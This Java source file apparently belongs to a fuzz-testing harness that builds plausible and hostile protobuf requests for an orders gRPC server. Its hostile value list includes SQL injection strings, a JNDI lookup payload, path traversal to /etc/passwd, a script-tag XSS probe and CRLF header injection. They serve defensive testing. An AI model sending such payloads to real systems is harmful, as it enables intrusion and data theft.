package dev.marketplace.orders.server.hostile;

import com.google.protobuf.ByteString;
import com.google.protobuf.Descriptors.Descriptor;
import com.google.protobuf.Descriptors.EnumDescriptor;
import com.google.protobuf.Descriptors.EnumValueDescriptor;
import com.google.protobuf.Descriptors.FieldDescriptor;
import com.google.protobuf.DynamicMessage;
import dev.marketplace.orders.server.testing.Requests;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Locale;
import java.util.Random;
import java.util.UUID;
import java.util.function.Supplier;

/**
 * Request values, chosen from the message descriptors alone: plausible ones (so that a request
 * passes validation and reaches the domain and the database) and hostile ones (empty, megabytes,
 * control characters, odd Unicode, SQL and JSON fragments, malformed ids and page tokens, extreme
 * numbers, unknown enum numbers, invalid UTF-8). Everything comes from one seeded {@link Random}, so
 * a run is reproduced by its seed.
 *
 * <p>Plausible values are picked by field name where the name carries meaning ({@code request_id},
 * {@code order_id}, {@code currency_code}, ...) and by type otherwise; the fixture supplies ids of
 * real orders, cancellation requests and refunds of buyer B1 at seller S1.
 */
final class HostileValues {

  /** 2 MiB of text: over every gRPC message limit the server configures by default (1 MiB). */
  static final String HUGE = "A".repeat(2 * 1024 * 1024);

  /** The real objects requests can name. */
  record Fixture(
      String buyer,
      String seller,
      List<String> orderIds,
      List<String> requestIds,
      List<String> refundIds,
      List<String> messageIds,
      List<String> modificationIds,
      List<String> disputeIds,
      List<String> caseIds,
      List<String> returnIds) {}

  private final Random random;
  private final Fixture fixture;
  /** At most one HUGE value per request, so a request stays a few MiB. */
  private boolean hugeSpent;

  HostileValues(Random random, Fixture fixture) {
    this.random = random;
    this.fixture = fixture;
  }

  Random random() {
    return random;
  }

  Fixture fixture() {
    return fixture;
  }

  /** Call before building each request. */
  void newRequest() {
    hugeSpent = false;
  }

  <T> T pick(List<T> values) {
    return values.get(random.nextInt(values.size()));
  }

  String uuid() {
    // A version-4 UUID from the seeded random.
    long msb = (random.nextLong() & 0xffffffffffff0fffL) | 0x0000000000004000L;
    long lsb = (random.nextLong() & 0x3fffffffffffffffL) | 0x8000000000000000L;
    return new UUID(msb, lsb).toString();
  }

  // ---- plausible ----

  /** A request (or nested message) with every field set to a plausible value. */
  DynamicMessage plausible(Descriptor type, int depth) {
    DynamicMessage.Builder builder = DynamicMessage.newBuilder(type);
    for (FieldDescriptor field : type.getFields()) {
      if (field.getName().equals("return_and_refund")) {
        continue; // a dispute asking a return instead of a refund is a choice, not a default
      }
      if (field.isMapField()) {
        builder.addRepeatedField(field, mapEntry(field, "colour", "red"));
      } else if (field.getJavaType() == FieldDescriptor.JavaType.MESSAGE) {
        if (depth >= 4) {
          continue;
        }
        if (field.isRepeated()) {
          // A cancel of some units is a choice, not a default: a plausible CancelOrder cancels the whole order.
          if (!field.getFullName().equals("orders.v1.CancelOrderRequest.line_items")) {
            builder.addRepeatedField(field, plausible(field.getMessageType(), depth + 1));
          }
        } else {
          builder.setField(field, plausible(field.getMessageType(), depth + 1));
        }
      } else if (field.isRepeated()) {
        // An empty state or kind filter means every state (the open ones, for the support queue) or kind.
        if (!field.getName().equals("states") && !field.getName().equals("kinds")) {
          builder.addRepeatedField(field, plausibleScalar(field));
        }
      } else {
        Object value = plausibleScalar(field);
        if (!(value instanceof String s && s.isEmpty())) {
          builder.setField(field, value);
        }
      }
    }
    return builder.build();
  }

  Object plausibleScalar(FieldDescriptor field) {
    String name = field.getName();
    if (field.getContainingType().getFullName().equals("orders.v1.OpenSupportCaseRequest")) {
      // A case about something else names no request: which request a case concerns is a choice.
      if (name.equals("kind")) {
        return field.getEnumType().findValueByName("OTHER");
      }
      if (name.equals("cancellation_request_id") || name.equals("modification_id")) {
        return "";
      }
    }
    if (field.getContainingType().getFullName().equals("orders.v1.WatchOrderEventsRequest") && name.equals("scope")) {
      // The plausible request names an order: it watches that order (the other scopes take no order_id).
      return field.getEnumType().findValueByName("ORDER");
    }
    return switch (field.getJavaType()) {
      case STRING -> plausibleString(name);
      // A line of the fixture's orders (they have two).
      case INT -> name.equals("page_size") ? 1 + random.nextInt(10) : name.equals("line_index") ? random.nextInt(2) : 1 + random.nextInt(5);
      case LONG -> name.equals("amount_minor") ? Requests.TOTAL : 1L + random.nextInt(1000);
      case FLOAT -> 1.5f;
      case DOUBLE -> 2.5d;
      // A dispute asks a full refund by setting full_refund to true (false is no choice at all).
      // The support queue's "unassigned" excludes an assignee, which a plausible request names.
      case BOOLEAN -> name.equals("full_refund") || (!name.equals("unassigned") && random.nextBoolean());
      case BYTE_STRING -> ByteString.copyFromUtf8("plausible");
      case ENUM -> knownEnumValue(field.getEnumType());
      case MESSAGE -> throw new IllegalArgumentException(name);
    };
  }

  private String plausibleString(String name) {
    return switch (name) {
      case "request_id" -> uuid();
      case "order_id" -> pick(fixture.orderIds());
      case "cancellation_request_id" -> pick(fixture.requestIds());
      case "refund_id" -> pick(fixture.refundIds());
      case "message_id" -> pick(fixture.messageIds());
      case "language_code", "view_language_code" -> pick(List.of("en", "de", "pt-BR"));
      case "attachment_uris" -> "https://cdn.example.com/photos/" + random.nextInt(100) + ".jpg";
      case "quoted_cancellation_request_id", "quoted_modification_id" -> ""; // a quote is a choice, not a default
      case "modification_id" -> pick(fixture.modificationIds());
      case "dispute_id" -> pick(fixture.disputeIds());
      case "case_id" -> pick(fixture.caseIds());
      case "return_id" -> pick(fixture.returnIds());
      case "reference" -> ""; // the case is named by case_id; a reference is a choice, not a default
      case "evidence_uris", "seller_evidence_uris" -> "https://cdn.example.com/evidence/" + random.nextInt(100) + ".jpg";
      case "buyer_id", "subject" -> fixture.buyer();
      case "seller_id" -> fixture.seller();
      case "currency_code" -> "USD";
      case "region_code" -> "US";
      case "page_token", "next_page_token", "etag" -> "";
      case "resume_token" -> "0"; // from the beginning: the stream answers with history at once
      case "carrier" -> "Cainiao";
      case "tracking_number" -> "LP0012345678";
      case "postal_code" -> "62701";
      case "phone_number" -> "+1 555 0100";
      default -> pick(List.of("Ann Example", "1 Main St", "Springfield", "Phone case", "changed my mind"));
    };
  }

  EnumValueDescriptor knownEnumValue(EnumDescriptor type) {
    List<EnumValueDescriptor> values = type.getValues().stream().filter(v -> v.getNumber() != 0).toList();
    return values.isEmpty() ? type.getValues().get(0) : pick(values);
  }

  DynamicMessage mapEntry(FieldDescriptor mapField, Object key, Object value) {
    Descriptor entry = mapField.getMessageType();
    return DynamicMessage.newBuilder(entry)
        .setField(entry.findFieldByName("key"), key)
        .setField(entry.findFieldByName("value"), value)
        .build();
  }

  // ---- hostile ----

  private final List<Supplier<String>> strings =
      List.of(
          () -> "",
          () -> " ",
          () -> "\t\r\n \u00a0",
          this::huge,
          () -> "x".repeat(65),
          () -> "x".repeat(101),
          () -> "x".repeat(501),
          () -> "x".repeat(1001),
          () -> "y".repeat(100_000),
          () -> "\u0000",
          () -> "a\u0000b",
          () -> "\u0007\u001b[31mred\u001b[0m",
          () -> "ok\r\nX-Injected: 1",
          () -> "\u007f\u0085\u009f",
          () -> "\ud800",
          () -> "x\udfffy",
          () -> "\uffff\ufffe\ufdd0",
          () -> "\ufeffbom",
          () -> "\u202egnp.exe",
          () -> "\u200b",
          () -> "e\u0301\u0301\u0301\u0301",
          () -> "\u0130\u0131\u00df\u01c5",
          () -> "\ud83d\udca5".repeat(64),
          () -> "\ud83d\udca5".repeat(65),
          () -> "\ud83d\ude00".repeat(1001),
          () -> "' OR 1=1 --",
          () -> "'; DROP TABLE orders; --",
          () -> "\" OR \"\"=\"",
          () -> "1 UNION SELECT password FROM users --",
          () -> "admin'/*",
          () -> "1; SELECT SLEEP(30); --",
          () -> "%",
          () -> "_%_",
          () -> "\\",
          () -> "\\'; --",
          () -> "{\"a\":1}",
          () -> "\"",
          () -> "]}\"",
          () -> "\\u0000",
          () -> "${jndi:ldap://example.invalid/a}",
          () -> "%s%n%x%d",
          () -> "{{7*7}}",
          () -> "../../../../etc/passwd",
          () -> "<script>alert(1)</script>",
          () -> "null",
          () -> "NaN",
          () -> "-1",
          () -> "9".repeat(40));

  private final List<Supplier<String>> ids =
      List.of(
          this::uuid,
          () -> uuid().toUpperCase(Locale.ROOT),
          () -> "{" + uuid() + "}",
          () -> uuid().replace("-", ""),
          () -> "00000000-0000-0000-0000-000000000000",
          () -> "ffffffff-ffff-ffff-ffff-ffffffffffff",
          () -> " " + uuid(),
          () -> uuid() + "\n",
          () -> uuid() + "\u0000",
          () -> uuid().substring(0, 35),
          () -> uuid() + "0",
          () -> uuid().replace('a', 'g'),
          () -> uuid().replace('1', '\uff11'),
          () -> uuid().repeat(1000),
          () -> pick(fixture().orderIds()),
          () -> pick(fixture().requestIds()),
          () -> pick(fixture().refundIds()),
          () -> "' OR '1'='1",
          () -> "1",
          () -> "CR-7K3M9QXA2B");

  private final List<Supplier<String>> pageTokens =
      List.of(
          () -> base64(bytes(random().nextInt(80))),
          () -> base64(bytes(24 + 16 + 8)),
          () -> "====",
          () -> "!!!!",
          () -> "a",
          () -> "AAAA",
          () -> "%00",
          () -> Base64.getEncoder().encodeToString("{\"offset\":-1}".getBytes(StandardCharsets.UTF_8)),
          () -> base64(bytes(100_000)));

  private String huge() {
    if (hugeSpent) {
      return "z".repeat(70_000);
    }
    hugeSpent = true;
    return HUGE;
  }

  String hostileString(FieldDescriptor field) {
    String name = field.getName();
    if (name.equals("page_token") && random.nextInt(3) > 0) {
      return pick(pageTokens).get();
    }
    if ((name.endsWith("_id") || name.equals("etag")) && random.nextInt(3) > 0) {
      return pick(ids).get();
    }
    return pick(strings).get();
  }

  int hostileInt() {
    return pick(List.of(0, -1, 1, Integer.MIN_VALUE, Integer.MAX_VALUE, 101, 10_001, 100_000, -100));
  }

  long hostileLong() {
    return pick(List.of(0L, -1L, Long.MIN_VALUE, Long.MAX_VALUE, 1_000_000_000_001L, 1L << 31, (1L << 53) + 1));
  }

  /** Unknown numbers as well as the zero value; proto3 enums are open, so they go on the wire as is. */
  EnumValueDescriptor hostileEnum(EnumDescriptor type) {
    int highest = type.getValues().stream().mapToInt(EnumValueDescriptor::getNumber).max().orElse(0);
    int number = pick(List.of(-1, 0, highest + 1, 99, 1000, Integer.MAX_VALUE, Integer.MIN_VALUE));
    return type.findValueByNumberCreatingIfUnknown(number);
  }

  ByteString hostileBytes() {
    return ByteString.copyFrom(pick(INVALID_UTF8));
  }

  /** Byte sequences that are not UTF-8: a stray continuation, a cut sequence, an overlong NUL, an encoded surrogate, 0xFF. */
  static final List<byte[]> INVALID_UTF8 =
      List.of(
          new byte[] {(byte) 0x80},
          new byte[] {'a', (byte) 0xc3},
          new byte[] {(byte) 0xc3, (byte) 0x28},
          new byte[] {(byte) 0xc0, (byte) 0x80},
          new byte[] {(byte) 0xed, (byte) 0xa0, (byte) 0x80},
          new byte[] {(byte) 0xf4, (byte) 0x90, (byte) 0x80, (byte) 0x80},
          new byte[] {(byte) 0xff, (byte) 0xfe, 'x'});

  /** A hostile value for one singular field, or one element of a repeated one. */
  Object hostile(FieldDescriptor field, int depth) {
    return switch (field.getJavaType()) {
      case STRING -> hostileString(field);
      case INT -> hostileInt();
      case LONG -> hostileLong();
      case FLOAT -> pick(List.of(Float.NaN, Float.NEGATIVE_INFINITY, -0f, Float.MAX_VALUE));
      case DOUBLE -> pick(List.of(Double.NaN, Double.POSITIVE_INFINITY, -0d, -Double.MAX_VALUE));
      case BOOLEAN -> random.nextBoolean();
      case BYTE_STRING -> hostileBytes();
      case ENUM -> hostileEnum(field.getEnumType());
      case MESSAGE -> randomMessage(field.getMessageType(), depth + 1);
    };
  }

  /** Every field present with some probability, each value hostile or plausible; nesting bounded. */
  DynamicMessage randomMessage(Descriptor type, int depth) {
    DynamicMessage.Builder builder = DynamicMessage.newBuilder(type);
    for (FieldDescriptor field : type.getFields()) {
      if (random.nextInt(10) < 4) {
        continue;
      }
      boolean message = field.getJavaType() == FieldDescriptor.JavaType.MESSAGE && !field.isMapField();
      if (message && depth >= 3) {
        continue;
      }
      if (field.isMapField()) {
        int entries = pick(List.of(1, 2, 11, 200));
        for (int i = 0; i < entries; i++) {
          FieldDescriptor value = field.getMessageType().findFieldByName("value");
          builder.addRepeatedField(
              field,
              mapEntry(
                  field,
                  random.nextBoolean() ? hostileString(field.getMessageType().findFieldByName("key")) : "k" + i,
                  random.nextBoolean() ? hostile(value, depth) : plausibleScalar(value)));
        }
      } else if (field.isRepeated()) {
        int count = message ? pick(List.of(0, 1, 2, 3, 101)) : pick(List.of(0, 1, 2, 3, 1000));
        for (int i = 0; i < count; i++) {
          boolean bulk = count > 3;
          Object element =
              message
                  ? (bulk || random.nextBoolean() ? plausible(field.getMessageType(), depth + 1) : randomMessage(field.getMessageType(), depth + 1))
                  : (random.nextInt(4) > 0 ? hostile(field, depth) : plausibleScalar(field));
          builder.addRepeatedField(field, element);
        }
      } else if (message) {
        builder.setField(field, random.nextInt(4) > 0 ? randomMessage(field.getMessageType(), depth + 1) : plausible(field.getMessageType(), depth + 1));
      } else {
        builder.setField(field, random.nextInt(4) > 0 ? hostile(field, depth) : plausibleScalar(field));
      }
    }
    return builder.build();
  }

  // ---- one hostile field in an otherwise plausible request ----

  /** A request with exactly one place made hostile, and where and what it was. */
  record Mutation(DynamicMessage message, String where, String what) {}

  Mutation mutateOne(DynamicMessage template) {
    return mutate(template, "", 0);
  }

  /**
   * The places a mutation can hit in a message of this type: every scalar, repeated or map field,
   * and every message field both as a whole and through each place inside it (nesting bounded).
   * Picking a place uniformly reaches a line item's price as often as a top-level id.
   */
  static int places(Descriptor type, int depth) {
    int places = 0;
    for (FieldDescriptor field : type.getFields()) {
      places += places(field, depth);
    }
    return places;
  }

  private static int places(FieldDescriptor field, int depth) {
    boolean nested = field.getJavaType() == FieldDescriptor.JavaType.MESSAGE && !field.isMapField();
    return nested && depth < MAX_MUTATION_DEPTH ? 1 + places(field.getMessageType(), depth + 1) : 1;
  }

  private static final int MAX_MUTATION_DEPTH = 3;

  private Mutation mutate(DynamicMessage message, String prefix, int depth) {
    List<FieldDescriptor> fields = message.getDescriptorForType().getFields();
    if (fields.isEmpty()) {
      // Nothing to mutate: the message itself is the hostile value (unknown fields are added on the wire).
      return new Mutation(message, prefix.isEmpty() ? "(no fields)" : prefix, "default instance");
    }
    int place = random.nextInt(places(message.getDescriptorForType(), depth));
    FieldDescriptor field = fields.get(0);
    for (FieldDescriptor candidate : fields) {
      field = candidate;
      place -= places(candidate, depth);
      if (place < 0) {
        break;
      }
    }
    String path = prefix + field.getName();
    DynamicMessage.Builder builder = message.toBuilder();
    boolean nested = field.getJavaType() == FieldDescriptor.JavaType.MESSAGE && !field.isMapField();
    if (nested && depth < MAX_MUTATION_DEPTH && random.nextInt(places(field, depth)) > 0) {
      if (field.isRepeated()) {
        if (builder.getRepeatedFieldCount(field) == 0) {
          builder.addRepeatedField(field, plausible(field.getMessageType(), depth + 1));
        }
        int index = random.nextInt(builder.getRepeatedFieldCount(field));
        Mutation inner = mutate((DynamicMessage) builder.getRepeatedField(field, index), path + "[" + index + "].", depth + 1);
        builder.setRepeatedField(field, index, inner.message());
        return new Mutation(builder.build(), inner.where(), inner.what());
      }
      DynamicMessage child =
          message.hasField(field) ? (DynamicMessage) message.getField(field) : plausible(field.getMessageType(), depth + 1);
      Mutation inner = mutate(child, path + ".", depth + 1);
      builder.setField(field, inner.message());
      return new Mutation(builder.build(), inner.where(), inner.what());
    }
    String what;
    if (field.isMapField()) {
      FieldDescriptor key = field.getMessageType().findFieldByName("key");
      FieldDescriptor value = field.getMessageType().findFieldByName("value");
      switch (random.nextInt(4)) {
        case 0 -> {
          Object k = hostileString(key);
          builder.addRepeatedField(field, mapEntry(field, k, plausibleScalar(value)));
          what = "entry with key " + Describe.value(k);
        }
        case 1 -> {
          Object v = hostile(value, depth);
          builder.addRepeatedField(field, mapEntry(field, "colour", v));
          what = "entry with value " + Describe.value(v);
        }
        case 2 -> {
          for (int i = 0; i < 11; i++) {
            builder.addRepeatedField(field, mapEntry(field, "key" + i, plausibleScalar(value)));
          }
          what = "11 more entries";
        }
        default -> {
          for (int i = 0; i < 5000; i++) {
            builder.addRepeatedField(field, mapEntry(field, "key" + i, plausibleScalar(value)));
          }
          what = "5000 more entries";
        }
      }
    } else if (field.isRepeated()) {
      switch (random.nextInt(4)) {
        case 0 -> {
          builder.clearField(field);
          what = "no elements";
        }
        case 1 -> {
          Object element = nested ? randomMessage(field.getMessageType(), depth + 1) : hostile(field, depth);
          builder.addRepeatedField(field, element);
          what = "one more element " + Describe.value(element);
        }
        case 2 -> {
          int count = nested ? 101 : 1000;
          for (int i = 0; i < count; i++) {
            builder.addRepeatedField(field, nested ? plausible(field.getMessageType(), depth + 1) : hostile(field, depth));
          }
          what = count + " more elements";
        }
        default -> {
          if (nested) {
            builder.addRepeatedField(field, DynamicMessage.getDefaultInstance(field.getMessageType()));
            what = "one more empty element";
          } else {
            Object element = plausibleScalar(field);
            for (int i = 0; i < 50; i++) {
              builder.addRepeatedField(field, element);
            }
            what = "50 copies of " + Describe.value(element);
          }
        }
      }
    } else if (nested) {
      switch (random.nextInt(3)) {
        case 0 -> {
          builder.clearField(field);
          what = "unset";
        }
        case 1 -> {
          builder.setField(field, DynamicMessage.getDefaultInstance(field.getMessageType()));
          what = "empty message";
        }
        default -> {
          DynamicMessage value = randomMessage(field.getMessageType(), depth + 1);
          builder.setField(field, value);
          what = Describe.value(value);
        }
      }
    } else {
      Object value = hostile(field, depth);
      builder.setField(field, value);
      what = Describe.value(value);
    }
    return new Mutation(builder.build(), path, what);
  }

  // ---- bytes ----

  byte[] bytes(int length) {
    byte[] bytes = new byte[length];
    random.nextBytes(bytes);
    return bytes;
  }

  static String base64(byte[] bytes) {
    return Base64.getUrlEncoder().withoutPadding().encodeToString(bytes);
  }

  /** Every string value in a message (map keys included), for telling echoes from leaks. */
  static List<String> strings(DynamicMessage message) {
    List<String> out = new ArrayList<>();
    collect(message, out);
    return out;
  }

  private static void collect(DynamicMessage message, List<String> out) {
    message
        .getAllFields()
        .forEach(
            (field, value) -> {
              if (field.isRepeated()) {
                for (Object element : (List<?>) value) {
                  collectValue(element, out);
                }
              } else {
                collectValue(value, out);
              }
            });
  }

  private static void collectValue(Object value, List<String> out) {
    if (value instanceof String s) {
      out.add(s);
    } else if (value instanceof DynamicMessage m) {
      collect(m, out);
    }
  }
}
